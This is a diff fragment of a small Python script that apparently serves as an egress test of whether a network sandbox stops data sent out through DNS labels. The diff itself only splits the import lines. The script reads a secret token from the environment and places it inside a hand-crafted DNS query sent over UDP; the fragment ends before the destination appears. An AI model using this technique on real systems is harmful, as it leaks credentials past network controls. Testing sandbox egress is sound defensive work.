@@ -2,7 +2,9 @@
 # stopped by: network
 # proof: arrived
 # source: DNS labels
-import os, socket
+import os
+import socket
+
 token = os.environ["TOKEN"].encode()
 question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + bytes([len(token)]) + token + b"\4test\0\0\1\0\1"
 with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
